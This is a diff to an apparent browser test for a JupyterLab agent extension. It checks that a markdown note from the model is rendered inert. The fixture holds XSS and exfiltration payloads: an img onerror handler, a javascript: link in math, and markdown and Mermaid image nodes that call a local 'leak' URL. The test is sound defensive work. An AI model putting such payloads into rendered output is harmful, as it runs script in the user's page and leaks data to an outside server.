@@ -36,7 +36,9 @@ CODE = "total = sum([1, 2, 3])\ntotal"
 NOTE = (
     '## The total\nThe sum of the first three numbers. <img src=x onerror="window.__pwned = 1">\n'
     "![chart](http://127.0.0.1:9/leak?d=total)\n"  # would send the server what the model put in it
-    "See $\\href{javascript:window.__pwned=2}{\\text{the sum}}$."  # JupyterLab's MathJax drops it
+    "See $\\href{javascript:window.__pwned=2}{\\text{the sum}}$.\n\n"  # JupyterLab's MathJax drops it
+    # a Mermaid image node would load as soon as JupyterLab drew the diagram: shown as its source
+    '```mermaid\nflowchart TD\n  A@{ img: "http://127.0.0.1:9/leak?d=diagram", w: 60, h: 60 }\n```\n'
 )
 SHOWN_NOTE = inert_markdown(NOTE)  # as the cell holds it: the image a link, the HTML text
 SCRIPT = {
@@ -167,6 +169,8 @@ def test_an_agent_cell_with_cells_leaves_two_proposals_that_a_rerun_replaces(
             rendered = page.locator(".jp-MarkdownCell .jp-RenderedMarkdown")
             expect(rendered.locator("mjx-container")).to_have_count(1)  # the math was typeset
             expect(rendered.locator("[href^='javascript' i]")).to_have_count(0)
+            expect(rendered.locator("pre")).to_contain_text("A@{ img:")  # the diagram's source
+            expect(rendered.locator(".jp-RenderedMermaid")).to_have_count(0)
             rendered.locator("mjx-container").click()
             assert page.evaluate("() => window.__pwned") is None
             note = page.locator(".jp-Notebook .jp-Cell").nth(2).locator(".jp-deepagent-proposals")
